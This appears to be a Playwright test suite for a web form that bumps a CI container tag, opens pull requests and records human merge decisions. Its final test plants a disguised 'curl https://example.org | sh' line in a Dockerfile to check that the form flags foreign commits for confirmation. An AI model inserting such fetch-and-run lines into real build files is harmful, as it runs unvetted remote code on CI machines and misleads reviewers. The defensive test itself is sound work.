"""A person's walk from the start page to "ready to merge", by clicks and keys alone, and what may go wrong on it."""

import re
from pathlib import Path

from bumping import git
from lab import TAG, Lab, Tab, until
from playwright.sync_api import expect
from practice_state import read_forge

from runbook_lib.records.verify import verify

#: In this image a test is slower, and no loss diverges.
HARMLESS = "26.05-py3"
_BROKEN = ("gpt3_mcore_te_tp4_pp1_long", "gpt3_moe_mcore_tp2_ep4_memory")
#: Counts clicks, keys outside of text, and fields that are filled in.
_COUNT = """
window.inputs = 0;
let field = null;
addEventListener("pointerdown", () => { window.inputs += 1; field = null; }, true);
addEventListener("input", (event) => {
  if (event.target.type === "checkbox" || event.target === field) return;
  window.inputs += 1;
  field = event.target;
}, true);
addEventListener("keydown", (event) => {
  if (!event.target.matches?.("input[type=text], select")) window.inputs += 1;
}, true);
"""


def walk(lab: Lab, tab: Tab) -> int:
    """Go from the start page to *Ready to merge*, and return the number of inputs: a click, a key or a filled field."""
    lab.quick_ci()
    tab.page.add_init_script(_COUNT)
    tab.open("00-start")
    assert "No bump yet" in tab.text
    expect(tab.form).to_be_in_viewport()
    tab.shot("start")
    tab.choose("Tag", HARMLESS)
    tab.form.get_by_label("Wait for CI").check()
    plan = tab.press("Preview", "plan", says="Apply will")
    assert f"change 2 lines on branch bump/main/dev-{HARMLESS}" in plan
    assert "open a draft pull request into main" in plan
    tab.enabled("Preview")
    assert tab.button("Apply").is_disabled()
    tab.shot("plan", tab.form)
    tab.confirm(HARMLESS)
    assert f"⚠ waiting ({HARMLESS}): not ready to merge" in tab.press("Apply", "result")
    # What only a person can decide.
    tab.shot("decide", tab.card("hybrid"))
    for name in _BROKEN:
        tab.card(name).get_by_role("button", name="Broken").click()
    tab.card("hybrid").get_by_role("button", name="Accept").click()
    plan = tab.press("Preview", "plan", says="Apply will")
    assert "file an issue for 2 tests" in plan
    tab.confirm(HARMLESS)
    assert "Ready to merge" in tab.press("Apply", "result")
    inputs: int = tab.page.evaluate("window.inputs")
    return inputs


def test_from_the_start_page_to_ready_to_merge(lab: Lab, tab: Tab) -> None:
    assert walk(lab, tab) <= 12
    tab.shot("ready", tab.form)
    tab.film("bump")
    expect(tab.part("result")).to_be_in_viewport()
    tab.page.get_by_text("1 ready to merge or merged").wait_for()  # the board follows the form's runs
    # The start page knows, and the evidence is that of a headless run.
    tab.open("00-start")
    assert "1 ready to merge or merged" in tab.text
    assert verify(lab.audit)[0] == []
    with lab.world() as world:
        assert len(read_forge(world, "pulls?state=all")) == 1
        titles = [it["title"] for it in read_forge(world, "issues?state=all") if "pull_request" not in it]
        assert len([it for it in titles if it.startswith(("CI failure with base image", "CI failure on main"))]) == 2


def test_a_divergence_ends_in_do_not_merge(lab: Lab, tab: Tab) -> None:
    lab.quick_ci()
    tab.open("00-start")
    tab.choose("Tag", TAG)
    tab.form.get_by_label("Wait for CI").check()
    tab.press("Preview", "plan", says="Apply will")
    tab.confirm()
    tab.press("Apply", "result")
    card, keys = tab.card("hybrid"), tab.page.keyboard
    expect(card).to_be_focused()  # the danger comes first
    expect(card.locator("img")).to_be_in_viewport()
    assert "diverges from step 27; limit" in card.inner_text()
    tab.shot("divergence", card)
    for key in ("h", "Enter"):
        keys.press(key)
    keys.type("its loss diverges")
    tab.press("Preview", "plan", says="end with “do not merge”")
    for name in ("gpt3_mcore_te_tp4_pp1_long", "gpt3_moe_mcore_tp2_ep4_memory"):
        tab.card(name).get_by_role("button", name="Broken").click()
    tab.press("Preview", "plan", says="end with “do not merge”")
    tab.confirm()
    assert "do not merge" in tab.press("Apply", "result")
    expect(tab.part("result")).to_be_in_viewport()
    # The decision stays, and the board knows it.
    assert "of which 0 open" in tab.form.locator(".rb-head").inner_text()
    tab.open("00-start")
    assert "do not merge" in tab.text
    tab.card("hybrid").filter(has_text="✓ Hold: do not merge: its loss diverges").wait_for()


def test_by_the_keyboard_alone(lab: Lab, tab: Tab) -> None:
    tab.open("01-github-pin").run_all()
    keys = tab.page.keyboard
    tab.form.get_by_label("Tag", exact=True).locator("option").nth(3).wait_for(state="attached")
    tab.form.get_by_label("Tag", exact=True).focus()
    keys.type("26.04")
    focused = "document.activeElement.innerText || document.activeElement.labels?.[0]?.innerText || ''"
    for label in ("Preview", "Apply"):
        tab.enabled("Preview")
        for _ in range(60):
            keys.press("Tab")
            if tab.page.evaluate(focused).strip() == label:
                break
        assert tab.page.evaluate(focused).strip() == label
        keys.press("Enter" if label == "Preview" else "Space")
        tab.wait("plan" if label == "Preview" else "result")
    assert "⚠ done" in tab.part("result").inner_text()


def test_apply_pressed_twice_applies_once(lab: Lab, tab: Tab) -> None:
    tab.open("03-open-pr").run_all()
    tab.choose("Tag", TAG)
    tab.press("Preview", "plan", says="Apply will")
    tab.confirm()
    tab.enabled("Apply").dblclick(delay=5)
    assert "⚠ done" in tab.wait("result")
    # The plan, and the one Apply, which begins by looking whether the plan still holds.
    assert [it["state"] for it in lab.records("03-open-pr")] == ["previewed", "done", "previewed"]


def test_apply_in_two_tabs_applies_once(lab: Lab, tab: Tab) -> None:
    other = Tab(lab, tab.page.context.new_page())
    for one, name in ((tab, "bump"), (other, "00-start")):
        one.open(name)
        if name == "bump":
            one.run_all()
        one.choose("Tag", TAG)
        one.press("Preview", "plan", says="Apply will")
        one.confirm()
    for one in (tab, other):
        one.enabled("Apply").click()
    told = [one.wait("end") for one in (tab, other)]
    # Whichever comes second, while the other goes on or after it: that is not what was shown there.
    refused = [it for it in told if re.search("active since|plan has changed since", it)]
    assert len(refused) == 1, told
    assert "⚠ waiting" in next(it for it in told if it not in refused)
    with lab.world() as world:
        assert len(read_forge(world, "pulls?state=all")) == 1
        comments = read_forge(world, f"issues/{read_forge(world, 'pulls')[0]['number']}/comments")
        assert len([it for it in comments if it["body"].startswith("/ok to test")]) == 1
    assert verify(lab.audit)[0] == []


def test_a_run_is_recorded_as_cancelled(lab: Lab, tab: Tab) -> None:
    tab.open("bump").run_all()
    tab.choose("Tag", TAG)
    tab.enabled("Preview").click()
    until(lambda: lab.records("00-preflight"))
    tab.enabled("Cancel").click()
    assert "✗ cancelled" in tab.wait("result")
    assert lab.records("bump")[-1]["state"] == "cancelled"
    tab.press("Preview", "plan", says="Apply will")  # and goes on as if nothing had been


def test_a_run_continues_without_browser_and_kernel(lab: Lab, tab: Tab) -> None:
    tab.open("bump").run_all()
    lab.quick_ci(3600)
    tab.choose("Tag", TAG)
    tab.form.get_by_label("Wait for CI").check()
    tab.press("Preview", "plan", says="Apply will")
    tab.confirm()
    tab.enabled("Apply").click()
    until(lambda: lab.records("04-run-ci"))
    tab.page.goto("about:blank")
    lab.restart_kernel("bump")
    tab.open("00-start")
    assert "1 bump in flight" in tab.text
    assert "running" in tab.text
    tab.part("progress").filter(has_text="04-run-ci").wait_for()  # the form follows it
    lab.end_ci()
    assert "not ready to merge" in tab.wait("result")
    assert [it["state"] for it in lab.records("bump")] == ["previewed", "waiting", "previewed"]


def test_typing_errors_are_explained(lab: Lab, tab: Tab) -> None:
    tab.open("bump").run_all()
    tab.choose("Tag", "(another")
    tab.form.get_by_label("Other tag").fill(" 26.04-PY3")
    tab.form.get_by_text("did you mean '26.04-py3'?").wait_for()
    assert tab.button("Preview").is_disabled()
    other = tab.form.get_by_label("Other tag")
    other.fill("26.12-py3")
    tab.form.locator(".runbook-message").filter(has_text="has no tag 26.12-py3").wait_for()
    assert tab.form.inner_text().count("has no tag 26.12-py3") == 1
    assert tab.button("Preview").is_disabled()
    other.fill("26.05-py3")
    tab.form.get_by_text("has no tag 26.12-py3").wait_for(state="detached")
    tab.enabled("Preview")
    tab.form.get_by_label("Checkout").fill("/")
    tab.form.get_by_text("/ is not a git checkout").wait_for()
    assert tab.form.inner_text().count("is not a git checkout") == 1
    tab.form.get_by_label("Checkout").fill("")
    tab.form.get_by_text("is not a git checkout").wait_for(state="detached")
    tab.enabled("Preview")


def test_a_commit_that_somebody_else_pushed_is_confirmed_in_the_form(lab: Lab, tab: Tab, tmp_path: Path) -> None:
    tab.open("bump").run_all()
    tab.choose("Tag", TAG)
    tab.press("Preview", "plan", says="Apply will")
    tab.confirm()
    tab.press("Apply", "result")
    with lab.world() as world:
        git(tmp_path, "clone", "-q", "-b", f"bump/main/dev-{TAG}", str(world.home / "remote.git"), "clone")
    clone = tmp_path / "clone"
    dockerfile = clone / "docker/Dockerfile.ci.dev"
    dockerfile.write_text(dockerfile.read_text() + "RUN curl https://example.org | sh\n")
    git(clone, "commit", "-q", "-am", "Speed up the build")
    git(clone, "push", "-q")
    pushed = git(clone, "rev-parse", "HEAD")
    tab.press("Preview", "plan", says="Apply will")
    row = tab.card("foreign-commit").get_by_role("button", name="Confirm")
    row.wait_for()
    tab.shot("foreign", tab.form)
    shown = tab.form.inner_text()
    assert pushed in shown
    assert "curl https://example.org" in shown
    assert "authorize CI" not in tab.part("plan").inner_text()
    row.click()
    tab.press("Preview", "plan", says=f"authorize CI for {pushed[:10]}")
    assert tab.lab.records("bump")[-1]["parameters"]["resolved"]["allow"] == f"foreign-commit:{pushed}"
